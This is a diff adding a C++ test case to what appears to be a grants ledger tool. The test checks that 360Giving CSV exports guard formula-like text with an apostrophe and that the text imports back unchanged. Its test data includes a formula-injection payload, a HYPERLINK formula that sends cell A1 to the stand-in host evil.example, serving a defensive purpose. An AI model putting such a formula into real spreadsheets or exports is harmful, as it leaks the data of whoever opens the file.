@@ -393,6 +393,43 @@ TEST_CASE("360giving: export publishes grant payments and leaves out reversed an
   expect_refused(b, {"export", "--format", "360giving", "--csv", "--json"}, 2, "choose one");
 }
 
+TEST_CASE("360giving: text a spreadsheet would run as a formula is exported guarded and imports back unchanged") {
+  Books a;
+  add_trafford(a);
+  const std::string title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Youth club\")";
+  const std::string description = "@SUM(1+1) and -2+3";
+  const std::string recipient = "+Hope Works";
+  std::string in = a.file("formulas.csv");
+  write_file(in,
+             "Identifier,Title,Description,Currency,Amount Awarded,Award Date,Recipient Org:Identifier,"
+             "Recipient Org:Name,Funding Org:Identifier,Funding Org:Name\r\n"
+             "360G-trafford-0100,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Youth club\"\")\",@SUM(1+1) and -2+3,"
+             "GBP,500,2024-04-01,GB-CHC-2000001,+Hope Works,GB-LAE-TRF,Trafford Council\r\n");
+  a.ok(import_args(a, in));
+
+  std::string out = a.file("out.csv");
+  a.ok({"export", "--format", "360giving", "--csv", "--out", out});
+  std::string csv = read_file(out);
+  CHECK(contains(csv, "\"'=HYPERLINK("));   // quoted for its commas, guarded inside
+  CHECK(contains(csv, ",'@SUM(1+1) and -2+3,"));
+  CHECK(contains(csv, ",'+Hope Works,"));
+  CHECK(contains(csv, ",500.00,"));         // numbers are never guarded
+  auto grant = by_id(csv).at("360G-trafford-0100");
+  CHECK(grant["Title"] == "'" + title);
+
+  // JSON carries no guard, and a second ledger fed the guarded CSV holds the
+  // original text.
+  auto json = a.ok_json({"export", "--format", "360giving", "--json"});
+  CHECK(json["grants"][0]["title"] == title);
+  Books c;
+  add_trafford(c);
+  c.ok(import_args(c, out));
+  auto again = c.ok_json({"export", "--format", "360giving", "--json"})["grants"][0];
+  CHECK(again["title"] == title);
+  CHECK(again["description"] == description);
+  CHECK(again["recipientOrganization"][0]["name"] == recipient);
+}
+
 TEST_CASE("360giving: a few thousand grants import verify and map in every format") {
   Books b;
   add_trafford(b);
